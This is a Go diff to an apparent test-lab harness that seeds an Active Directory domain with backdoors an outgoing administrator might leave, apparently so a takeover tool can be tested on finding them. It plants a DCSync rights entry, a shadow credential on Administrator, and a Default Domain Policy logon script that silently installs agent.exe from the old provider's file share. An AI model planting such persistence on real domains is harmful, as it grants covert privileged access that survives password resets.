@@ -15,6 +15,9 @@ import (
 	"path/filepath"
 	"strings"
 	"sync"
+	"time"
+
+	"github.com/go-ldap/ldap/v3"
 
 	"github.com/switchover/switchover/internal/testing/adlab"
 	"github.com/switchover/switchover/internal/testing/graphtest"
@@ -58,6 +61,8 @@ type Lab struct {
 	ADOld       []string
 	ADService   string
 	ADNewAdmin  string
+	ADDCSync    string // the DCSync ACE planted for the old provider's technician
+	ADShadow    string // the shadow credential planted on Administrator
 	SCIMOld     []string
 	SCIMClient  string
 	GraphOld    []string
@@ -177,7 +182,34 @@ func (l *Lab) startAD() error {
 			l.ADOld = append(l.ADOld, dn)
 		}
 	}
-	return nil
+	return l.plantADBackDoors(c)
+}
+
+// plantADBackDoors leaves what an outgoing admin leaves to come back
+// without an account: DCSync rights for its technician on the domain, and
+// shadow credentials on Administrator (they outlive its password reset).
+func (l *Lab) plantADBackDoors(c *ldap.Conn) error {
+	sid, err := adlab.SID(c, l.ADOld[1])
+	if err != nil {
+		return err
+	}
+	l.ADDCSync = "(OA;;CR;1131f6ad-9c07-11d1-f79f-00c04fc2dcd2;;" + sid + ")"
+	if err := l.DC.AddACE(adlab.BaseDN, l.ADDCSync); err != nil {
+		return err
+	}
+	l.ADShadow = adlab.KeyCredential(adlab.AdminDN, [16]byte{0x0d, 0xe5, 0x01, 0xd5}, time.Now().Add(-72*time.Hour))
+	m := ldap.NewModifyRequest(adlab.AdminDN, nil)
+	m.Add("msDS-KeyCredentialLink", []string{l.ADShadow})
+	if err := c.Modify(m); err != nil {
+		return err
+	}
+	// And a logon script of the Default Domain Policy that installs its
+	// remote-access agent (a person removes it: GPOs are not edited).
+	script := filepath.Join(l.DC.Sysvol(), "lab.test", "Policies", "{31B2F340-016D-11D2-945F-00C04FB984F9}", "User", "Scripts", "Logon", "oldmsp-agent.cmd")
+	if err := os.MkdirAll(filepath.Dir(script), 0o755); err != nil {
+		return err
+	}
+	return os.WriteFile(script, []byte("@echo off\r\n\\\\files."+OldDomain+"\\rmm\\agent.exe /install /quiet\r\n"), 0o644)
 }
 
 func (l *Lab) startSCIM() error {
@@ -314,6 +346,7 @@ func (l *Lab) Values() (vars map[string]any, env []string, err error) {
 		"ad_ca_file":                     l.DC.CAFile,
 		"ad_bind_dn":                     l.ADNewAdmin,
 		"ad_service_accounts":            []string{"svc-backup"},
+		"ad_sysvol_path":                 l.DC.Sysvol(),
 		"m365_tenant_id":                 graphtest.Tenant,
 		"m365_client_id":                 graphtest.ClientID,
 		"m365_known_accounts":            []string{"breakglass@acme.example"},
